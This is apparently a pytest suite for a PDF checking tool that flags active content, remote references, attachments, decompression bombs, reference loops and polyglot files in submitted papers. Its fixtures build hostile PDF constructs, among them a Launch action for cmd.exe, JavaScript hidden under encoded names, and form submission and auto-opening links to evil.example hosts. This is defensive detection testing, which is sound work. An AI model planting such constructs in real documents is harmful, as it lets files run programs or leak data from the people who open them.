"""Files that would run, fetch or unpack something; each told in one sentence, and none of it done."""

import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from paperchecks import Limits
from paperchecks.hostile import UNPACKED_BYTES
from paperchecks.inspection import examine
from tests.paperchecks.files import paper, pdf_of, zip_of


@pytest.fixture
def found(stored):
    def look(change=None, *, data=None):
        data = data or pdf_of(*paper(), change=change)
        return [(finding.code, finding.sentence) for finding in examine(str(stored(data)), Limits()).findings]

    return look


def opens(**action):
    return lambda pdf: pdf.Root.__setitem__("/OpenAction", Dictionary(**action))


def annotated(**entries):
    def change(pdf):
        pdf.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Rect=[10, 10, 30, 30], **entries)])

    return change


def script_in_a_name_tree(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))]))
    )


def script_after_a_link(pdf):
    after = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org"), Next=after))(pdf)


def spelt_with_numbers(pdf):
    pdf.Root.OpenAction = pikepdf.Object.parse(b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>")


def beside_a_name_that_is_no_text(pdf):
    pdf.Root.OpenAction = pikepdf.Object.parse(b"<< /S /JavaScript /JS (x) /#cf#e8 1 >>")
    pdf.Root.Extra = pikepdf.Object.parse(b"<< /S /JavaScr#cfp#e8 /JS (x) /#cf#e8 << /#cf /#e8 >> >>")
    pdf.pages[0].obj.Resources.Font["/F9"] = pikepdf.Object.parse(b"<< /BaseFont /#cf#e8 /Subtype /Type3 >>")


def xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def external_stream(pdf):
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=pdf.make_stream(b"", F=String("http://evil.example/x")))


def imported_page(pdf):
    form = pdf.make_stream(b"", Subtype=Name.Form, Ref=Dictionary(F=String("\\\\evil.example\\share\\x.pdf"), Page=0))
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=form)


def by_page(pdf):
    pdf.pages[1].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://evil.example/seen")))


ACTIVE = {
    "JavaScript": [
        opens(S=Name.JavaScript, JS=String("x")),
        script_in_a_name_tree,
        script_after_a_link,
        spelt_with_numbers,
        beside_a_name_that_is_no_text,
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
    ],
    "a command that starts a program": [opens(S=Name.Launch, F=String("cmd.exe"))],
    "a form that sends data": [opens(S=Name.SubmitForm, F=String("http://evil.example"))],
    "a form that reads files": [annotated(Subtype=Name.Widget, A=Dictionary(S=Name.ImportData, F=String("x.fdf")))],
    "a form of the kind XFA": [xfa],
    "rich media": [annotated(Subtype=Name.RichMedia)],
    "a 3D model": [annotated(Subtype=Name("/3D"))],
}

REMOTE = {
    "content that is kept in http://evil.example/x": external_stream,
    "a page of \\\\evil.example\\share\\x.pdf": imported_page,
    "a link that opens other.pdf": annotated(
        Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0]))
    ),
    "an address that opens by itself, https://evil.example/now": opens(
        S=Name.URI, URI=String("https://evil.example/now")
    ),
    "an address that opens by itself, https://evil.example/seen": by_page,
    "a file at http://evil.example/y": lambda pdf: pdf.Root.__setitem__(
        "/Extra", Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://evil.example/y"))
    ),
}
HARMLESS = {
    "a link to an address": annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org"))),
    "a link within the file": annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=String("section.1"))),
    "a page to begin with": opens(S=Name.GoTo, D=String("section.1")),
    "a font by the name of an action": lambda pdf: pdf.pages[0].obj.Resources.Font.__setitem__(
        "/AA", pdf.pages[0].obj.Resources.Font.F1
    ),
    "a script that is only mentioned": lambda pdf: pdf.Root.__setitem__("/Lang", String("/S /JavaScript /Launch")),
    "an empty form": lambda pdf: pdf.Root.__setitem__("/AcroForm", Dictionary(Fields=Array([]))),
}


@pytest.mark.parametrize(
    ("words", "change"),
    [(words, change) for words, changes in ACTIVE.items() for change in changes],
)
def test_what_a_reader_would_run_is_named(found, words, change):
    assert [said for said in found(change) if said[0] != "type3_fonts"] == [
        ("active_content", f"The file contains {words}.")
    ]


@pytest.mark.parametrize(("words", "change"), REMOTE.items())
def test_what_lies_outside_of_the_file_is_named(found, words, change):
    assert found(change) == [("remote_reference", f"The file refers to what is not in it: {words}.")]


@pytest.mark.parametrize("change", HARMLESS.values(), ids=HARMLESS.keys())
def test_what_every_paper_has_is_no_finding(found, change):
    assert found(change) == []


def test_attached_files_are_named_wherever_they_hang(found):
    def on_a_page(pdf):
        file = pdf.make_stream(b"MZ", Type=Name.EmbeddedFile)
        annotated(
            Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=file))
        )(pdf)

    def in_the_catalogue(pdf):
        pdf.attachments["data.csv"] = b"a,b"

    sentence = "The file has other files attached to it: %s."
    assert found(on_a_page) == [("attachments", sentence % "run.exe")]
    assert found(in_the_catalogue) == [("attachments", sentence % "data.csv")]


def packed_twice(data):
    return zlib.compress(zlib.compress(data, 9), 9)


def test_a_drawing_that_unpacks_to_far_too_much_is_told_without_unpacking_it(found):
    def change(pdf):
        zeros = zlib.compress(b" " * (UNPACKED_BYTES + 2_000_000), 9)
        pdf.pages[1].obj.Contents = pikepdf.Stream(pdf, zeros, Filter=Name.FlateDecode)

    assert found(change) == [("pdf_bomb", "This PDF of 0.1 MB would unpack to more than 100 MB.")]


def test_a_drawing_packed_twice_is_unpacked_twice(found):
    def change(pdf):
        zeros = packed_twice(b" " * (UNPACKED_BYTES + 2_000_000))
        pdf.pages[1].obj.Contents = pikepdf.Stream(pdf, zeros, Filter=[Name.FlateDecode, Name.FlateDecode])

    assert [code for code, _ in found(change)] == ["pdf_bomb"]


def test_a_picture_without_end_is_told(found):
    def change(pdf):
        picture = pdf.make_stream(b"", Subtype=Name.Image, Width=60_000, Height=60_000, BitsPerComponent=1)
        pdf.pages[0].obj.Resources.XObject = Dictionary(X=picture)

    assert found(change) == [
        ("pdf_bomb", "This PDF contains a picture of 60,000 by 60,000 points, too large for most machines.")
    ]


def test_a_large_drawing_is_no_bomb(found):
    def change(pdf):
        lines = b"\n".join(b"%d %d m %d %d l S" % (n, n * 7 % 701, n * 3 % 601, n % 97) for n in range(10_000))
        pdf.pages[1].contents_add(pdf.make_stream(lines))

    assert found(change) == []


def looping_pages(pdf):
    pdf.Root.Pages.Kids.append(pdf.Root.Pages)


def looping_outline(pdf):
    item = pdf.make_indirect(Dictionary(Title=String("x")))
    item.Next = item.First = item.Parent = item
    pdf.Root.Outlines = Dictionary(First=item, Last=item, Count=1)


def looping_names(pdf):
    tree = pdf.make_indirect(Dictionary())
    tree.Kids = Array([tree])
    pdf.Root.Names = Dictionary(Dests=tree, EmbeddedFiles=tree)


def looping_forms(pdf):
    form = pdf.make_stream(b"/X Do", Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    pdf.pages[0].obj.Resources.XObject = form.Resources.XObject
    pdf.pages[0].contents_add(pdf.make_stream(b"/X Do"))


def looping_parents(pdf):
    for page in pdf.pages:
        page.obj.Resources = pdf.pages[0].obj.Resources
    pdf.Root.Pages.Parent = pdf.Root.Pages


def deep_arrays(pdf):
    pdf.Root.Deep = pikepdf.Object.parse(b"[" * 400 + b"]" * 400)


@pytest.mark.parametrize(
    "change", [looping_pages, looping_outline, looping_names, looping_forms, looping_parents, deep_arrays]
)
def test_loops_end(found, change):
    assert [code for code, _ in found(change)] in ([], ["damaged"])


def test_a_hundred_thousand_objects_are_looked_at(found):
    def change(pdf):
        for _ in range(100_000):
            pdf.make_indirect(Dictionary(N=1))
        opens(S=Name.Launch, F=String("x"))(pdf)

    assert [code for code, _ in found(change)] == ["active_content"]


def test_an_author_beside_a_name_that_is_no_text_is_found(found):
    def change(pdf):
        pdf.trailer.Info = pikepdf.Object.parse(b"<< /Author (Ada Lovelace) /#cf#e8 (x) >>")

    assert found(change) == [("metadata_author", "The file's metadata names Ada Lovelace.")]


def test_two_kinds_of_file_in_one_are_told(found):
    data = pdf_of(*paper())
    page = b"<html><script>alert(1)</script></html>\n"

    assert found(data=page + data) == [("polyglot", "This file is a PDF and a web page at the same time.")]
    assert found(data=data[:9] + page + data[9:])[0][0] == "polyglot"
    assert found(data=data + zip_of({"a": "b"})) == [
        ("polyglot", "This file is a PDF and a ZIP archive at the same time.")
    ]
    assert found(data=zip_of({"a": "b"}) + data) == [
        ("polyglot", "This file is a PDF and a ZIP archive at the same time.")
    ]


def test_a_zip_archive_attached_with_a_long_comment_is_told(found):
    archive = bytearray(zip_of({"a": "b"}))
    archive[-2:] = (60_000).to_bytes(2, "little")

    assert [code for code, _ in found(data=pdf_of(*paper()) + archive + b"x" * 60_000)] == ["polyglot"]
